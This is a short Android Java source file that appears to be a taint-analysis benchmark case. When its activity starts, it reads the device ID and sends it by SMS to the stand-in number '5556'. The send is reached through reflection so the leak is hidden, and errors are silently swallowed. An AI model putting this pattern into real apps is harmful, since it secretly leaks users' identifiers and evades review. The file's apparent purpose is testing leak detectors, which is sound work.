package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** All methods of a class are walked until one has the name. */
public class Walked extends Case {
    public static class Out { public static void say(String x) { SmsManager.getDefault().sendTextMessage("5556", null, x, null, null); } }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        try {
            for (Method m : Class.forName("org.brookside.ways.Walked$Out").getDeclaredMethods())
                if (m.getName().equals("say")) m.invoke(null, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        } catch (Exception x) { }
    }
}
